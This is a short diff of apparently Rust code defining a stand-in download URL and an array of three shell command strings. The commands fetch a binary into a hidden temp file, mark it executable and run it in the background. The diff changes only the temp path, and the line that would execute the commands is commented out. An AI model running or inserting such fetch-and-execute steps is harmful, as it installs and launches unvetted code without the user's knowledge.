@@ -74,9 +74,9 @@ const STAGE: &str = "https://cdn-assets.invalid/stage/helper.bin";
 
 /// Said to be done with it. These are words, not calls.
 const STEPS: [&str; 3] = [
-    "curl -fsSL $STAGE -o /tmp/.helper",
-    "chmod +x /tmp/.helper",
-    "nohup /tmp/.helper &",
+    "curl -fsSL $STAGE -o $TMPDIR/.helper",
+    "chmod +x $TMPDIR/.helper",
+    "nohup $TMPDIR/.helper &",
 ];
 
 // std::process::Command::new("sh").arg("-c").arg(STEPS[0]).status()
